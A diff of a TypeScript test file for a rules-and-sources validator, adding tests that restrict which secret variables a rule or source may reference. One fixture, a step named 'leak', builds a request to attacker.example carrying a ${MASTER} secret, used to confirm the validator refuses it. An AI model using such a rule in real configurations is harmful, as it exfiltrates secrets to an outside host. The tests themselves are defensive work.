@@ -1,7 +1,14 @@
 import { validateRuleDefinition, validateSourceDefinition } from './definition-validation';
 import { RulesProblem, RulesValidationError } from './rules-validation.error';
+import { VariableScope } from './variables';
 
 const REFERENCES = { sourceIds: new Set(['shop']), connectionIds: new Set(['warehouse']) };
+
+/** The variables of `values`, every one of them allowed unless listed in `refused`. */
+const scope = (values: Record<string, string> = {}, refused: string[] = []): VariableScope => ({
+  values,
+  refusal: (name) => (refused.includes(name) ? `variable \${${name}} is refused here` : undefined),
+});
 
 function problemsOf(validate: () => unknown): RulesProblem[] {
   try {
@@ -13,10 +20,10 @@ function problemsOf(validate: () => unknown): RulesProblem[] {
   throw new Error('expected a RulesValidationError');
 }
 
-const ruleProblems = (value: unknown, variables: Record<string, string> = {}): { path?: string; message: string }[] =>
+const ruleProblems = (value: unknown, variables: VariableScope = scope()): { path?: string; message: string }[] =>
   problemsOf(() => validateRuleDefinition(value, variables, REFERENCES)).map(({ path, message }) => ({ path, message }));
 
-const sourceProblems = (value: unknown, variables: Record<string, string> = {}): { path?: string; message: string }[] =>
+const sourceProblems = (value: unknown, variables: VariableScope = scope()): { path?: string; message: string }[] =>
   problemsOf(() => validateSourceDefinition(value, variables)).map(({ path, message }) => ({ path, message }));
 
 const httpStep = { id: 'notify', type: 'http', url: 'http://receiver/orders' };
@@ -26,9 +33,7 @@ describe('validateSourceDefinition', () => {
     expect(
       validateSourceDefinition(
         { id: 'shop', provider: 'hmac', secrets: ['${SHOP_SECRET}', 'plain'], eventType: 'payload.kind' },
-        {
-          SHOP_SECRET: 's3cret',
-        },
+        scope({ SHOP_SECRET: 's3cret' }),
       ),
     ).toEqual({ id: 'shop', provider: 'hmac', secrets: ['s3cret', 'plain'], eventType: 'payload.kind' });
   });
@@ -49,10 +54,51 @@ describe('validateSourceDefinition', () => {
     expect(sourceProblems('shop')).toEqual([{ path: '', message: 'the source: must be object' }]);
   });
 
-  it('reports an expression that does not compile and a variable that is not set', () => {
+  it('reports an expression that does not compile and a variable that is not set, at the secret', () => {
     expect(sourceProblems({ id: 'shop', provider: 'hmac', secrets: ['${SHOP_SECRET}'], idempotencyKey: 'payload.(' })).toEqual([
       { path: 'idempotencyKey', message: 'idempotencyKey: invalid JSONata at position 9: Expected ")" before end of expression' },
-      { path: '', message: 'source "shop": variable ${SHOP_SECRET} is not set' },
+      { path: 'secrets.0', message: 'source "shop": variable ${SHOP_SECRET} is not set' },
+    ]);
+  });
+
+  it('refuses a variable its scope refuses, without saying whether it is set', () => {
+    const secrets = ['${MASTER}', 'plain-${MASTER}', '${SHOP_SECRET}'];
+    const expected = [
+      { path: 'secrets.0', message: 'secrets.0: variable ${MASTER} is refused here' },
+      { path: 'secrets.1', message: 'secrets.1: variable ${MASTER} is refused here' },
+    ];
+    expect(sourceProblems({ id: 'shop', provider: 'hmac', secrets }, scope({ SHOP_SECRET: 's' }, ['MASTER']))).toEqual(expected);
+    expect(sourceProblems({ id: 'shop', provider: 'hmac', secrets }, scope({ SHOP_SECRET: 's', MASTER: 'm' }, ['MASTER']))).toEqual(
+      expected,
+    );
+  });
+
+  it('resolves variables in secrets only: a reference in any other setting is a problem at its path', () => {
+    const source = {
+      id: 'shop',
+      provider: 'basic',
+      secrets: ['${SHOP_SECRET}'],
+      username: '${SHOP_USER}',
+      description: 'key ${SHOP_SECRET} and ${SHOP_SECRET:-x}',
+      eventType: '"${SHOP_SECRET}"',
+      allowIps: ['${SHOP_NET}'],
+    };
+    const notHere = (path: string, name: string) => ({
+      path,
+      message: `${path}: variable \${${name}} is not resolved here: a source written through the admin API takes \${VAR} references in secrets only`,
+    });
+
+    expect(sourceProblems(source, scope({ SHOP_SECRET: 's', SHOP_USER: 'u', SHOP_NET: '10.0.0.0/8' }))).toEqual([
+      notHere('username', 'SHOP_USER'),
+      notHere('description', 'SHOP_SECRET'),
+      notHere('eventType', 'SHOP_SECRET'),
+      notHere('allowIps.0', 'SHOP_NET'),
+    ]);
+  });
+
+  it('checks secrets again once resolved', () => {
+    expect(sourceProblems({ id: 'shop', provider: 'hmac', secrets: ['ok', '${SHOP_SECRET:-}'] })).toEqual([
+      { path: 'secrets.1', message: 'secrets.1: must NOT have fewer than 1 characters once its variables are resolved' },
     ]);
   });
 });
@@ -78,7 +124,7 @@ describe('validateRuleDefinition', () => {
       ],
     };
 
-    const validated = validateRuleDefinition(rule, { TOKEN: 't0ken' }, REFERENCES);
+    const validated = validateRuleDefinition(rule, scope({ TOKEN: 't0ken' }), REFERENCES);
 
     expect(validated.rule).toEqual(rule);
     expect(validated.dbTargets).toEqual([
@@ -97,7 +143,7 @@ describe('validateRuleDefinition', () => {
   });
 
   it('accepts "*" as the source whatever sources exist', () => {
-    expect(validateRuleDefinition({ id: 'all', source: '*', steps: [httpStep] }, {}, REFERENCES).rule.source).toBe('*');
+    expect(validateRuleDefinition({ id: 'all', source: '*', steps: [httpStep] }, scope(), REFERENCES).rule.source).toBe('*');
   });
 
   it('reports a missing required key at the path of that key, and an unknown key at its own path', () => {
@@ -142,8 +188,33 @@ describe('validateRuleDefinition', () => {
     ]);
   });
 
+  it('refuses each variable its scope refuses at the path of its field, and never says whether it is set', () => {
+    const rule = {
+      id: 'r1',
+      source: 'shop',
+      when: '"${MASTER}" != ""',
+      steps: [
+        { id: 'leak', type: 'http', url: 'https://attacker.example/${MASTER}?db=${DB:-none}', headers: { 'X-Token': '${TOKEN}' } },
+        { id: 'shout', type: 'transform', expression: '$uppercase("${UNSET}")' },
+      ],
+    };
+
+    expect(ruleProblems(rule, scope({ TOKEN: 't', MASTER: 'm' }, ['MASTER', 'DB', 'UNSET']))).toEqual([
+      { path: 'when', message: 'when: variable ${MASTER} is refused here' },
+      { path: 'steps.0.url', message: 'steps.0.url: variable ${MASTER} is refused here' },
+      { path: 'steps.0.url', message: 'steps.0.url: variable ${DB} is refused here' },
+      { path: 'steps.1.expression', message: 'steps.1.expression: variable ${UNSET} is refused here' },
+    ]);
+    expect(ruleProblems({ ...rule, steps: [rule.steps[0]!] }, scope({}, ['MASTER', 'DB']))).toEqual([
+      { path: 'when', message: 'when: variable ${MASTER} is refused here' },
+      { path: 'steps.0.url', message: 'steps.0.url: variable ${MASTER} is refused here' },
+      { path: 'steps.0.url', message: 'steps.0.url: variable ${DB} is refused here' },
+      { path: '', message: 'rule "r1": variable ${TOKEN} is not set' },
+    ]);
+  });
+
   it('names the rule in each problem so a formatted problem reads on its own', () => {
-    const [problem] = problemsOf(() => validateRuleDefinition({ id: 'r1', source: 'shop', steps: [] }, {}, REFERENCES));
+    const [problem] = problemsOf(() => validateRuleDefinition({ id: 'r1', source: 'shop', steps: [] }, scope(), REFERENCES));
     expect(problem).toEqual({ file: 'rule "r1"', path: 'steps', message: 'steps: must NOT have fewer than 1 items' });
   });
 });
